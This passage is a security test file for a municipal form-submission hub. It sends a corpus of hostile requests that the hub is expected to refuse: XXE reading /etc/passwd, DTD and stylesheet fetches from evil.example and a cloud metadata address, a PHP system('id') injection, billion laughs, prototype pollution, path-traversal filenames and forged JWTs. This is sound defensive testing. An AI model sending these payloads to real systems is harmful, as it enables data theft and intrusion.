@@ -1,0 +1,987 @@
+import { readdir, readFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { ScanCommand } from '@aws-sdk/client-dynamodb';
+import { ListObjectsV2Command } from '@aws-sdk/client-s3';
+import { GetQueueAttributesCommand } from '@aws-sdk/client-sqs';
+import { DynamoDBDocumentClient } from '@aws-sdk/lib-dynamodb';
+import { SignJWT } from 'jose';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { type Hub, startHub } from '../../infra/local/hub.ts';
+import { type DevKeys, loadOrCreateDevKeys } from '../../shared/auth/dev-keys.ts';
+import { signDevToken } from '../../shared/auth/tokens.ts';
+import { buildRegistry } from '../../shared/config/registry.ts';
+import { runRetention } from '../../shared/retention/cleanup.ts';
+import { SubmissionStore } from '../../shared/store/submissions.ts';
+import { newDataDir, type Sample, sample, settings } from '../support/hub.ts';
+import { securityConfig } from './fixtures/config.ts';
+
+/**
+ * The hostile corpus: every request here must be refused with a 4xx problem+json, the hub must stay up, and
+ * afterwards the data dir, the table, the queues and the bucket must hold nothing from any of them. Each
+ * request carries the marker "hostile-" (in its submissionId, or its raw body), which is what the final
+ * checks look for, byte by byte.
+ */
+
+const MARKER = 'hostile-';
+const HOSTILE_NAME = 'Hostilia Ondsinnet';
+const HOSTILE_FNR = '15067700020';
+/** Personal data of the samples and of the corpus: never in a log line, never in an error body. */
+const NEVER_LOGGED = [
+  HOSTILE_FNR,
+  HOSTILE_NAME,
+  '12035440095',
+  '01118740080',
+  '29029240181',
+  'Østby-Lærum',
+  'Åse Marie',
+  'Ødegård',
+  'Randi Sommerseth',
+];
+
+let hub: Hub;
+let keys: DevKeys;
+let tt: Sample;
+const captured: string[] = [];
+const original = { out: process.stdout.write.bind(process.stdout), err: process.stderr.write.bind(process.stderr) };
+const controls: string[] = [];
+const timings: number[] = [];
+
+beforeAll(async () => {
+  const capture =
+    (write: typeof original.out) =>
+    (chunk: unknown, ...rest: unknown[]) => {
+      captured.push(String(chunk));
+      return write(chunk as string, ...(rest as []));
+    };
+  process.stdout.write = capture(original.out) as typeof process.stdout.write;
+  process.stderr.write = capture(original.err) as typeof process.stderr.write;
+  const dataDir = await newDataDir();
+  hub = await startHub({
+    port: 0,
+    dataDir,
+    configPath: await securityConfig(),
+    log: (line) => captured.push(line),
+    retentionIntervalMs: 0,
+  });
+  keys = await loadOrCreateDevKeys(dataDir);
+  tt = await sample('tt-kort-soknad');
+});
+
+afterAll(async () => {
+  await hub?.stop();
+  process.stdout.write = original.out as typeof process.stdout.write;
+  process.stderr.write = original.err as typeof process.stderr.write;
+  if (process.env.SKJEMAFLYT_REPORT_TIMINGS) {
+    original.out(`hostile corpus: ${timings.length} requests, slowest ${Math.max(...timings).toFixed(0)} ms\n`);
+  }
+});
+
+// ---- talking to the hub ----
+
+interface Answer {
+  status: number;
+  contentType: string | null;
+  text: string;
+  body: any;
+}
+
+const token = (who: { provider: string } | { admin: string[]; name?: string }) =>
+  signDevToken(keys.privateKey, settings, who);
+
+async function send(
+  options: {
+    method?: string;
+    path?: string;
+    body?: string | Buffer;
+    contentType?: string | null;
+    authorization?: string | null;
+    provider?: string;
+  } = {},
+): Promise<Answer> {
+  const headers: Record<string, string> = {};
+  const contentType = options.contentType === undefined ? 'application/json' : options.contentType;
+  if (contentType) headers['content-type'] = contentType;
+  const authorization =
+    options.authorization === undefined
+      ? `Bearer ${await token({ provider: options.provider ?? 'eskjema' })}`
+      : options.authorization;
+  if (authorization) headers.authorization = authorization;
+  const started = performance.now();
+  const response = await fetch(`${hub.url}${options.path ?? '/v1/submissions'}`, {
+    method: options.method ?? 'POST',
+    headers,
+    ...(options.body !== undefined ? { body: options.body } : {}),
+  });
+  const text = await response.text();
+  timings.push(performance.now() - started);
+  let body: unknown;
+  try {
+    body = JSON.parse(text);
+  } catch {
+    body = undefined;
+  }
+  return { status: response.status, contentType: response.headers.get('content-type'), text, body };
+}
+
+const post = (body: unknown, options: Parameters<typeof send>[0] = {}) =>
+  send({ ...options, body: typeof body === 'string' || Buffer.isBuffer(body) ? body : JSON.stringify(body) });
+
+async function waitForStatus(trackingId: string, provider: string, wanted: string): Promise<any> {
+  for (let i = 0; i < 300; i++) {
+    const answer = await send({ method: 'GET', path: `/v1/submissions/${trackingId}`, provider });
+    if (answer.body?.status === wanted) return answer.body;
+    await new Promise((r) => setTimeout(r, 100));
+  }
+  throw new Error(`${trackingId} never reached ${wanted}`);
+}
+
+// ---- building hostile requests ----
+
+let counter = 0;
+const id = () => `${MARKER}${++counter}`;
+
+/** The TT-kort sample as a hostile provider sends it, changed by `edit`. */
+function ttKort(edit: (body: any) => void = () => {}): any {
+  const body = structuredClone(tt) as any;
+  body.submissionId = id();
+  body.submitter = { ...body.submitter, name: HOSTILE_NAME, nationalId: HOSTILE_FNR };
+  edit(body);
+  return body;
+}
+
+/** The TT-kort form data with `fragment` inserted (`where`: after the declaration, or inside <behov>). */
+function ttXml(fragment: string, where: 'prolog' | 'behov' = 'behov'): string {
+  const content = (tt.formData as { content: string }).content;
+  return where === 'prolog'
+    ? content.replace('?>\n', `?>\n${fragment}\n`)
+    : content.replace('<behov>', `<behov>${fragment}`);
+}
+
+const withXml = (content: string) => ttKort((b) => (b.formData.content = content));
+const pdf = (text: string) => Buffer.from(`%PDF-1.4\n${text}`).toString('base64');
+const withAttachment = (attachment: Record<string, unknown>) =>
+  ttKort((b) => {
+    b.attachments[1] = { ...b.attachments[1], ...attachment };
+  });
+
+/** A submission of the JSON form type (Sarpsborg), form data as given. */
+const jsonForm = (content: string) => ({
+  submissionId: id(),
+  formType: 'melding-json',
+  municipality: '3105',
+  submittedAt: '2026-11-24T10:15:00+01:00',
+  submitter: { name: HOSTILE_NAME },
+  formData: { contentType: 'application/json', content },
+});
+
+/** Raw JSON text of a TT-kort body with `replace` applied to the serialised text. */
+const rawTtKort = (from: string, to: string) => JSON.stringify(ttKort()).replace(from, to);
+
+const now = () => Math.floor(Date.now() / 1000);
+const b64url = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
+const providerClaims = { 'skjemaflyt:provider': 'eskjema', scope: 'skjemaflyt:submit' };
+const jwt = (edit: (j: SignJWT) => SignJWT, claims: Record<string, unknown> = providerClaims) =>
+  edit(
+    new SignJWT(claims)
+      .setProtectedHeader({ alg: 'ES256' })
+      .setIssuer(settings.issuer)
+      .setAudience(settings.audience)
+      .setSubject('provider:eskjema')
+      .setIssuedAt()
+      .setExpirationTime('1h'),
+  ).sign(keys.privateKey);
+
+interface HostileCase {
+  name: string;
+  status: number;
+  /** A field the answer must name */
+  path?: string;
+  send(): Promise<Answer>;
+}
+
+const corpus: HostileCase[] = [
+  // ---- size ----
+  {
+    name: 'body over the limit (3 MB, limit 2 MB)',
+    status: 413,
+    send: () => post(ttKort((b) => (b.submitter.address = { street: 'x'.repeat(3 * 1024 * 1024) }))),
+  },
+  {
+    name: '10 MB base64 attachment',
+    status: 413,
+    send: () => post(withAttachment({ contentBase64: Buffer.alloc(10 * 1024 * 1024, 0x25).toString('base64') })),
+  },
+  {
+    name: 'one attachment over its limit (700 KB, limit 512 KB), body under the body limit',
+    status: 413,
+    path: '/attachments/1/contentBase64',
+    send: () => post(withAttachment({ contentBase64: pdf('x'.repeat(700 * 1024)) })),
+  },
+  {
+    name: 'six attachments (limit 5)',
+    status: 413,
+    path: '/attachments',
+    send: () =>
+      post(
+        ttKort((b) => {
+          for (let i = 0; i < 4; i++) b.attachments.push({ ...b.attachments[1], filename: `v${i}.pdf` });
+        }),
+      ),
+  },
+  {
+    name: 'form data over its limit (100 KB, limit 64 KB)',
+    status: 413,
+    path: '/formData/content',
+    send: () => post(withXml(ttXml(`<fyll>${'x'.repeat(1000)}</fyll>`.repeat(100)))),
+  },
+  // ---- the body itself ----
+  { name: 'empty body', status: 400, send: () => post('') },
+  { name: 'not JSON', status: 400, send: () => post(`submissionId=${id()}&name=x`) },
+  { name: 'a JSON array', status: 400, send: () => post(`[{"submissionId":"${id()}"}]`) },
+  { name: 'JSON null', status: 400, send: () => post(`null ${'\n'.repeat(0)}`) },
+  { name: 'text/plain', status: 415, send: () => post(ttKort(), { contentType: 'text/plain' }) },
+  {
+    name: 'a charset other than UTF-8',
+    status: 415,
+    send: () => post(ttKort(), { contentType: 'application/json; charset=iso-8859-1' }),
+  },
+  { name: 'no content type', status: 415, send: () => post(ttKort(), { contentType: null }) },
+  {
+    name: 'invalid UTF-8: a Latin-1 ø in the name',
+    status: 400,
+    send: () =>
+      post(Buffer.concat([Buffer.from(rawTtKort(HOSTILE_NAME, 'S')), Buffer.from([0xf8])]).subarray(0)).then((a) => a),
+  },
+  {
+    name: 'invalid UTF-8: an overlong encoding of "/"',
+    status: 400,
+    send: () => {
+      const [head, tail] = rawTtKort(HOSTILE_NAME, '\u0001SPLIT\u0001').split('\\u0001SPLIT\\u0001');
+      return post(Buffer.concat([Buffer.from(head ?? ''), Buffer.from([0xc0, 0xaf]), Buffer.from(tail ?? '')]));
+    },
+  },
+  {
+    name: 'invalid UTF-8: an encoded surrogate',
+    status: 400,
+    send: () => {
+      const [head, tail] = rawTtKort(HOSTILE_NAME, '\u0001SPLIT\u0001').split('\\u0001SPLIT\\u0001');
+      return post(Buffer.concat([Buffer.from(head ?? ''), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from(tail ?? '')]));
+    },
+  },
+  {
+    name: 'a UTF-16 body',
+    status: 400,
+    send: () => post(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(JSON.stringify(ttKort()), 'utf16le')])),
+  },
+  {
+    name: 'U+FFFD in the body (bad bytes already replaced on the way)',
+    status: 400,
+    send: () => post(ttKort((b) => (b.submitter.name = 'S\uFFFDther'))),
+  },
+  {
+    name: 'a lone surrogate escaped in the name',
+    status: 400,
+    path: '/submitter/name',
+    send: () => post(rawTtKort(HOSTILE_NAME, 'Ola\\ud800')),
+  },
+  // ---- JSON that means two things ----
+  {
+    name: 'duplicate key: municipality twice',
+    status: 400,
+    path: '/municipality',
+    send: () => post(rawTtKort('"municipality":"3101"', '"municipality":"3101","municipality":"5037"')),
+  },
+  {
+    name: 'duplicate key: nationalId twice',
+    status: 400,
+    path: '/submitter/nationalId',
+    send: () =>
+      post(rawTtKort(`"nationalId":"${HOSTILE_FNR}"`, `"nationalId":"${HOSTILE_FNR}","nationalId":"12035440095"`)),
+  },
+  {
+    name: 'duplicate key hidden by an escape',
+    status: 400,
+    path: '/formType',
+    send: () => post(rawTtKort('"formType":"tt-kort-soknad"', '"formType":"tt-kort-soknad","form\\u0054ype":"x"')),
+  },
+  {
+    name: '__proto__ at the top',
+    status: 400,
+    path: '/__proto__',
+    send: () => post(rawTtKort('{"submissionId"', '{"__proto__":{"admin":true},"submissionId"')),
+  },
+  {
+    name: '__proto__ escaped, in the submitter',
+    status: 400,
+    send: () => post(rawTtKort('"submitter":{', '"submitter":{"__pro\\u0074o__":{"polluted":1},')),
+  },
+  {
+    name: 'constructor.prototype',
+    status: 400,
+    send: () => post(rawTtKort('{"submissionId"', '{"constructor":{"prototype":{"x":1}},"submissionId"')),
+  },
+  {
+    name: 'a body nested 100 000 deep',
+    status: 400,
+    send: () => post(`{"submissionId":"${id()}","x":${'['.repeat(100_000)}${']'.repeat(100_000)}}`),
+  },
+  // ---- JSON form data ----
+  {
+    name: 'JSON form data with a duplicate key',
+    status: 400,
+    path: '/formData/content/melding/tekst',
+    send: () => post(jsonForm('{"melding":{"tekst":"a","tekst":"b"}}'), { provider: 'json-skjema' }),
+  },
+  {
+    name: 'JSON form data with __proto__',
+    status: 400,
+    send: () => post(jsonForm('{"melding":{"tekst":"a"},"__proto__":{"isAdmin":true}}'), { provider: 'json-skjema' }),
+  },
+  {
+    name: 'JSON form data nested deeper than the limit',
+    status: 400,
+    send: () =>
+      post(jsonForm(`{"melding":{"tekst":"a"},"x":${'['.repeat(40)}${']'.repeat(40)}}`), { provider: 'json-skjema' }),
+  },
+  {
+    name: 'JSON form data with more values than the limit',
+    status: 413,
+    send: () => post(jsonForm(`{"melding":{"tekst":"a"},"x":[${'1,'.repeat(600)}1]}`), { provider: 'json-skjema' }),
+  },
+  {
+    name: 'JSON form data with an overlong string',
+    status: 400,
+    path: '/formData/content/melding/tekst',
+    send: () => post(jsonForm(JSON.stringify({ melding: { tekst: 'å'.repeat(2500) } })), { provider: 'json-skjema' }),
+  },
+  {
+    name: 'JSON form data with a right-to-left override',
+    status: 400,
+    path: '/formData/content/melding/tekst',
+    send: () => post(jsonForm(JSON.stringify({ melding: { tekst: 'abc\u202Efdp.exe' } })), { provider: 'json-skjema' }),
+  },
+  // ---- XML form data ----
+  {
+    name: 'billion laughs',
+    status: 400,
+    path: '/formData/content',
+    send: () =>
+      post(
+        withXml(
+          ttXml(
+            '<!DOCTYPE melding [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>',
+            'prolog',
+          ).replace('<begrunnelse>', '<begrunnelse>&lol3;'),
+        ),
+      ),
+  },
+  {
+    name: 'external entity (XXE) to /etc/passwd',
+    status: 400,
+    send: () =>
+      post(
+        withXml(
+          ttXml('<!DOCTYPE melding [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', 'prolog').replace(
+            '<fornavn>',
+            '<fornavn>&xxe;',
+          ),
+        ),
+      ),
+  },
+  {
+    name: 'external DTD over HTTP',
+    status: 400,
+    send: () => post(withXml(ttXml('<!DOCTYPE melding SYSTEM "http://169.254.169.254/latest/meta-data/">', 'prolog'))),
+  },
+  {
+    name: 'parameter entity',
+    status: 400,
+    send: () =>
+      post(withXml(ttXml('<!DOCTYPE melding [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]>', 'prolog'))),
+  },
+  {
+    name: 'XInclude',
+    status: 400,
+    send: () =>
+      post(
+        withXml(
+          ttXml(
+            '<vedlegg xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></vedlegg>',
+          ),
+        ),
+      ),
+  },
+  {
+    name: 'xml-stylesheet pointing outside',
+    status: 400,
+    send: () => post(withXml(ttXml('<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>', 'prolog'))),
+  },
+  { name: 'another processing instruction', status: 400, send: () => post(withXml(ttXml('<?php system("id"); ?>'))) },
+  {
+    name: 'XML nested 5000 deep',
+    status: 400,
+    send: () => post(withXml(ttXml(`${'<n>'.repeat(5000)}${'</n>'.repeat(5000)}`))),
+  },
+  {
+    name: 'XML with more elements than the limit (600, limit 500)',
+    status: 413,
+    send: () => post(withXml(ttXml('<h/>'.repeat(600)))),
+  },
+  {
+    name: 'XML with an overlong value',
+    status: 400,
+    path: '/formData/content/behov/begrunnelse',
+    send: () =>
+      post(
+        withXml(ttXml('').replace(/<begrunnelse>.*<\/begrunnelse>/s, `<begrunnelse>${'ø'.repeat(2500)}</begrunnelse>`)),
+      ),
+  },
+  {
+    name: 'a right-to-left override as a character reference in a name',
+    status: 400,
+    path: '/formData/content/soker/fornavn',
+    send: () => post(withXml(ttXml('').replace('<fornavn>', '<fornavn>&#x202E;'))),
+  },
+  {
+    name: 'a control character as a character reference',
+    status: 400,
+    path: '/formData/content/soker/etternavn',
+    send: () => post(withXml(ttXml('').replace('<etternavn>', '<etternavn>&#x1B;[2J'))),
+  },
+  {
+    name: 'an element called __proto__',
+    status: 400,
+    send: () => post(withXml(ttXml('<__proto__><x>1</x></__proto__>'))),
+  },
+  { name: 'malformed XML', status: 400, send: () => post(withXml(ttXml('<ikke-lukket>'))) },
+  {
+    name: 'two root elements',
+    status: 400,
+    send: () => post(withXml(`${(tt.formData as { content: string }).content}<melding/>`)),
+  },
+  {
+    name: 'JSON form data for an XML form type',
+    status: 422,
+    path: '/formData/contentType',
+    send: () => post(ttKort((b) => (b.formData = { contentType: 'application/json', content: '{"soker":{}}' }))),
+  },
+  // ---- names and other text in the envelope ----
+  {
+    name: 'zero-width space in the name',
+    status: 400,
+    path: '/submitter/name',
+    send: () => post(ttKort((b) => (b.submitter.name = 'Ola\u200BNordmann'))),
+  },
+  {
+    name: 'right-to-left override in the name',
+    status: 400,
+    path: '/submitter/name',
+    send: () => post(ttKort((b) => (b.submitter.name = 'Ola \u202Ennamdron'))),
+  },
+  {
+    name: 'zero-width joiner in the name',
+    status: 400,
+    path: '/submitter/name',
+    send: () => post(ttKort((b) => (b.submitter.name = 'Ola\u200DNordmann'))),
+  },
+  {
+    name: 'bidi isolate in the street address',
+    status: 400,
+    path: '/submitter/address/street',
+    send: () => post(ttKort((b) => (b.submitter.address = { street: 'Storgata \u2067 12' }))),
+  },
+  {
+    name: 'NUL in the name',
+    status: 400,
+    path: '/submitter/name',
+    send: () => post(ttKort((b) => (b.submitter.name = 'Ola\u0000Nordmann'))),
+  },
+  {
+    name: 'right-to-left override in an attachment title',
+    status: 400,
+    path: '/attachments/1/title',
+    send: () => post(withAttachment({ title: 'Legeerklæring\u202E' })),
+  },
+  {
+    name: 'overlong name (10 000 characters)',
+    status: 400,
+    path: '/submitter/name',
+    send: () => post(ttKort((b) => (b.submitter.name = 'Å'.repeat(10_000)))),
+  },
+  {
+    name: 'overlong submissionId',
+    status: 400,
+    path: '/submissionId',
+    send: () => post(ttKort((b) => (b.submissionId = `${MARKER}${'x'.repeat(500)}`))),
+  },
+  {
+    name: 'submissionId with a line break',
+    status: 400,
+    path: '/submissionId',
+    send: () => post(ttKort((b) => (b.submissionId = `${MARKER}a\r\nX-Injected: 1`))),
+  },
+  {
+    name: 'an unknown envelope field',
+    status: 400,
+    path: '/isAdmin',
+    send: () => post(ttKort((b) => (b.isAdmin = true))),
+  },
+  // ---- filenames ----
+  ...[
+    ['../../etc/passwd', 'path traversal'],
+    ['..\\..\\windows\\win.ini', 'Windows path traversal'],
+    ['/etc/passwd.pdf', 'an absolute path'],
+    ['CON.pdf', 'a Windows device name'],
+    ['nul.pdf', 'a device name in lower case'],
+    ['COM1.pdf', 'COM1'],
+    ['.htaccess', 'a hidden file'],
+    ['faktura\u202Efdp.pdf', 'a right-to-left override'],
+    ['vedlegg\u0007.pdf', 'a control character'],
+    ['soknad.pdf.', 'a trailing dot'],
+    ['passwd', 'no extension'],
+  ].map(
+    ([filename, what]): HostileCase => ({
+      name: `filename with ${what}`,
+      status: 400,
+      path: '/attachments/1/filename',
+      send: () => post(withAttachment({ filename })),
+    }),
+  ),
+  // ---- attachment content ----
+  {
+    name: 'a PDF that is really HTML',
+    status: 415,
+    path: '/attachments/1/contentBase64',
+    send: () =>
+      post(
+        withAttachment({
+          contentBase64: Buffer.from('<html><script>fetch("//evil")</script></html>').toString('base64'),
+        }),
+      ),
+  },
+  {
+    name: 'a PDF that is really a Windows program',
+    status: 415,
+    path: '/attachments/1/contentBase64',
+    send: () =>
+      post(withAttachment({ contentBase64: Buffer.from('MZ\x90\x00\x03\x00PE\x00\x00', 'latin1').toString('base64') })),
+  },
+  {
+    name: 'a PNG that is really a JPEG',
+    status: 415,
+    path: '/attachments/1/contentBase64',
+    send: () =>
+      post(
+        withAttachment({
+          filename: 'bilde.png',
+          contentType: 'image/png',
+          contentBase64: Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10]).toString('base64'),
+        }),
+      ),
+  },
+  {
+    name: 'an HTML attachment',
+    status: 415,
+    path: '/attachments/1/contentType',
+    send: () =>
+      post(
+        withAttachment({
+          filename: 'side.html',
+          contentType: 'text/html',
+          contentBase64: Buffer.from('<html>').toString('base64'),
+        }),
+      ),
+  },
+  {
+    name: 'a program as attachment',
+    status: 415,
+    path: '/attachments/1/contentType',
+    send: () =>
+      post(
+        withAttachment({
+          filename: 'setup.exe',
+          contentType: 'application/x-msdownload',
+          contentBase64: Buffer.from('MZ').toString('base64'),
+        }),
+      ),
+  },
+  {
+    name: 'not base64',
+    status: 400,
+    path: '/attachments/1/contentBase64',
+    send: () => post(withAttachment({ contentBase64: '%%%<script>' })),
+  },
+  {
+    name: 'two main documents',
+    status: 400,
+    path: '/attachments',
+    send: () => post(ttKort((b) => (b.attachments[1].role = 'main'))),
+  },
+  {
+    name: 'no main document for a form that is archived',
+    status: 422,
+    path: '/attachments',
+    send: () => post(ttKort((b) => (b.attachments = [{ ...b.attachments[1], role: 'attachment' }]))),
+  },
+  // ---- identifiers ----
+  {
+    name: 'fødselsnummer with a bad mod-11 control digit',
+    status: 400,
+    path: '/submitter/nationalId',
+    send: () => post(ttKort((b) => (b.submitter.nationalId = '15067700021'))),
+  },
+  {
+    name: 'fødselsnummer with ten digits',
+    status: 400,
+    path: '/submitter/nationalId',
+    send: () => post(ttKort((b) => (b.submitter.nationalId = '1506770002'))),
+  },
+  {
+    name: 'D-number with bad control digits',
+    status: 400,
+    path: '/submitter/nationalId',
+    send: () => post(ttKort((b) => (b.submitter.nationalId = '41018000048'))),
+  },
+  {
+    name: 'organisasjonsnummer with a bad mod-11 control digit',
+    status: 400,
+    path: '/submitter/organisationNumber',
+    send: () => post(ttKort((b) => (b.submitter.organisationNumber = '959159093'))),
+  },
+  {
+    name: 'fødselsnummer in the form data with a bad control digit',
+    status: 422,
+    path: '/formData/content/soker/fodselsnummer',
+    send: () => post(withXml(ttXml('').replace('12035440095', '12035440096'))),
+  },
+  {
+    name: 'unknown municipality 9999',
+    status: 400,
+    path: '/municipality',
+    send: () => post(ttKort((b) => (b.municipality = '9999'))),
+  },
+  {
+    name: 'municipality 0000',
+    status: 400,
+    path: '/municipality',
+    send: () => post(ttKort((b) => (b.municipality = '0000'))),
+  },
+  {
+    name: 'a real municipality the hub does not serve (Oslo)',
+    status: 403,
+    path: '/municipality',
+    send: () => post(ttKort((b) => (b.municipality = '0301'))),
+  },
+  // ---- tokens ----
+  { name: 'no token', status: 401, send: () => post(ttKort(), { authorization: null }) },
+  {
+    name: 'Basic authentication',
+    status: 401,
+    send: () => post(ttKort(), { authorization: 'Basic ZXNramVtYTpwYXNz' }),
+  },
+  { name: 'a garbage token', status: 401, send: () => post(ttKort(), { authorization: 'Bearer hostile.token.here' }) },
+  {
+    name: 'an expired token',
+    status: 401,
+    send: async () =>
+      post(ttKort(), { authorization: `Bearer ${await jwt((j) => j.setExpirationTime(now() - 3600))}` }),
+  },
+  {
+    name: 'a token not valid yet',
+    status: 401,
+    send: async () => post(ttKort(), { authorization: `Bearer ${await jwt((j) => j.setNotBefore(now() + 3600))}` }),
+  },
+  {
+    name: 'a token from another issuer',
+    status: 401,
+    send: async () =>
+      post(ttKort(), { authorization: `Bearer ${await jwt((j) => j.setIssuer('https://evil.example'))}` }),
+  },
+  {
+    name: 'a token for another audience',
+    status: 401,
+    send: async () => post(ttKort(), { authorization: `Bearer ${await jwt((j) => j.setAudience('other-api'))}` }),
+  },
+  {
+    name: 'a token without expiry',
+    status: 401,
+    send: async () => {
+      const unsigned = new SignJWT(providerClaims)
+        .setProtectedHeader({ alg: 'ES256' })
+        .setIssuer(settings.issuer)
+        .setAudience(settings.audience);
+      return post(ttKort(), { authorization: `Bearer ${await unsigned.sign(keys.privateKey)}` });
+    },
+  },
+  {
+    name: 'a token signed with another key',
+    status: 401,
+    send: async () => {
+      const { generateKeyPair } = await import('jose');
+      const other = await generateKeyPair('ES256');
+      const forged = await new SignJWT(providerClaims)
+        .setProtectedHeader({ alg: 'ES256', kid: keys.publicJwk.kid ?? '' })
+        .setIssuer(settings.issuer)
+        .setAudience(settings.audience)
+        .setExpirationTime('1h')
+        .sign(other.privateKey);
+      return post(ttKort(), { authorization: `Bearer ${forged}` });
+    },
+  },
+  {
+    name: 'alg: none',
+    status: 401,
+    send: () => {
+      const claims = { ...providerClaims, iss: settings.issuer, aud: settings.audience, exp: now() + 3600 };
+      return post(ttKort(), { authorization: `Bearer ${b64url({ alg: 'none', typ: 'JWT' })}.${b64url(claims)}.` });
+    },
+  },
+  {
+    name: 'HS256 signed with the public key (algorithm confusion)',
+    status: 401,
+    send: async () => {
+      const hs = await new SignJWT(providerClaims)
+        .setProtectedHeader({ alg: 'HS256' })
+        .setIssuer(settings.issuer)
+        .setAudience(settings.audience)
+        .setExpirationTime('1h')
+        .sign(new TextEncoder().encode(JSON.stringify(keys.publicJwk)));
+      return post(ttKort(), { authorization: `Bearer ${hs}` });
+    },
+  },
+  {
+    name: 'a tampered token (provider switched, signature kept)',
+    status: 401,
+    send: async () => {
+      const [header, , signature] = (await token({ provider: 'eskjema' })).split('.');
+      const claims = { 'skjemaflyt:provider': 'halden-intranett', scope: 'skjemaflyt:submit', exp: now() + 3600 };
+      return post(ttKort(), { authorization: `Bearer ${header}.${b64url(claims)}.${signature}` });
+    },
+  },
+  // ---- tenants ----
+  {
+    name: 'a valid provider token for another municipality (TT-kort for Levanger)',
+    status: 403,
+    path: '/municipality',
+    send: () => post(ttKort((b) => (b.municipality = '5037'))),
+  },
+  {
+    name: 'the intranet’s token for a public form',
+    status: 403,
+    path: '/municipality',
+    send: () => post(ttKort(), { provider: 'halden-intranett' }),
+  },
+  {
+    name: 'the public form engine’s token for the intranet’s A-skjema',
+    status: 403,
+    send: async () => {
+      const body = (await sample('a-skjema-tilsetting')) as any;
+      return post({ ...body, submissionId: id() });
+    },
+  },
+  {
+    name: 'an admin token posting a submission',
+    status: 403,
+    send: async () => post(ttKort(), { authorization: `Bearer ${await token({ admin: ['3101'] })}` }),
+  },
+  {
+    name: 'a token for a provider the hub does not know',
+    status: 403,
+    send: () => post(ttKort(), { provider: 'ukjent-leverandor' }),
+  },
+  {
+    name: 'an unknown form type',
+    status: 400,
+    path: '/formType',
+    send: () => post(ttKort((b) => (b.formType = 'soknad-om-hundeluftetillatelse'))),
+  },
+];
+
+describe('the hostile corpus', () => {
+  it('has at least 60 requests', () => {
+    expect(corpus.length).toBeGreaterThanOrEqual(60);
+  });
+
+  it('a valid TT-kort and a valid JSON submission go through first (the controls)', async () => {
+    const first = await post({ ...tt, submissionId: 'control-1' });
+    expect(first.status).toBe(202);
+    const second = await post(
+      {
+        submissionId: 'control-2',
+        formType: 'melding-json',
+        municipality: '3105',
+        submittedAt: '2026-11-24T10:15:00+01:00',
+        submitter: { name: 'Kari Nordmann' },
+        formData: { contentType: 'application/json', content: '{"melding":{"tekst":"Gatelyset er mørkt"}}' },
+      },
+      { provider: 'json-skjema' },
+    );
+    expect(second.status).toBe(202);
+    controls.push(first.body.trackingId, second.body.trackingId);
+    await waitForStatus(first.body.trackingId, 'eskjema', 'DELIVERED');
+    await waitForStatus(second.body.trackingId, 'json-skjema', 'DELIVERED');
+  });
+
+  it.each(corpus.map((c) => [c.name, c] as const))('%s: refused with a 4xx problem+json', async (_, hostile) => {
+    const answer = await hostile.send();
+    expect(answer.status, answer.text.slice(0, 500)).toBe(hostile.status);
+    expect(answer.contentType).toMatch(/^application\/problem\+json/);
+    expect(answer.body).toMatchObject({ status: hostile.status, title: expect.any(String) });
+    expect(Array.isArray(answer.body.errors)).toBe(true);
+    if (hostile.path) expect(answer.body.errors.map((e: { path: string }) => e.path)).toContain(hostile.path);
+    // Fields are named, values never: not the hostile name or fødselsnummer, not the samples'.
+    for (const value of [...NEVER_LOGGED, '15067700021', '41018000048', '959159093', '12035440096']) {
+      expect(answer.text).not.toContain(value);
+    }
+  });
+
+  it('a provider and an admin from elsewhere cannot read a submission: 404, as if it did not exist', async () => {
+    const [control] = controls;
+    const read = async (authorization: string) =>
+      send({ method: 'GET', path: `/v1/submissions/${control}`, authorization });
+    const otherAdmin = await read(`Bearer ${await token({ admin: ['5037'] })}`);
+    expect(otherAdmin.status).toBe(404);
+    expect(otherAdmin.contentType).toMatch(/^application\/problem\+json/);
+    expect((await read(`Bearer ${await token({ provider: 'halden-intranett' })}`)).status).toBe(404);
+    expect((await read(`Bearer ${await token({ provider: 'json-skjema' })}`)).status).toBe(404);
+    expect((await read(`Bearer ${await token({ admin: ['3101'] })}`)).status).toBe(200);
+    const traversal = await send({ method: 'GET', path: '/v1/submissions/..%2F..%2Fetc%2Fpasswd' });
+    expect(traversal.status).toBe(404);
+  });
+
+  it('the hub is still up and still takes a valid submission', async () => {
+    expect((await fetch(`${hub.url}/health`)).status).toBe(200);
+    const after = await post({ ...tt, submissionId: 'control-3' });
+    expect(after.status).toBe(202);
+    controls.push(after.body.trackingId);
+    await waitForStatus(after.body.trackingId, 'eskjema', 'DELIVERED');
+  });
+
+  it('duplicate and awkward filenames arrive in the archive safe and distinct', async () => {
+    const body = structuredClone(tt) as any;
+    const [main, attachment] = body.attachments;
+    body.submissionId = 'control-4';
+    body.attachments = [
+      main,
+      { ...attachment, filename: 'Merknad-a\u030A.pdf' },
+      { ...attachment, filename: 'merknad-å.pdf' },
+      { ...attachment, filename: 'Vedtak: "kopi"?.pdf' },
+      { ...attachment, filename: 'arkivmelding.xml', contentType: 'application/pdf' },
+    ];
+    const answer = await post(body);
+    expect(answer.status).toBe(202);
+    controls.push(answer.body.trackingId);
+    await waitForStatus(answer.body.trackingId, 'eskjema', 'DELIVERED');
+    const files = await readdir(join(hub.archiveDir, '3101', answer.body.trackingId));
+    expect(files).toEqual(
+      expect.arrayContaining([
+        'Merknad-å.pdf',
+        'merknad-å (2).pdf',
+        'Vedtak_ _kopi__.pdf',
+        'arkivmelding.xml.pdf',
+        'arkivmelding.xml',
+      ]),
+    );
+  });
+
+  it('afterwards the table holds only the controls', async () => {
+    const { Items = [] } = await hub.clients.dynamodb.send(new ScanCommand({ TableName: hub.resources.tableName }));
+    expect(JSON.stringify(Items)).not.toContain(MARKER);
+    const tracked = new Set(Items.map((i) => i.trackingId?.S).filter(Boolean));
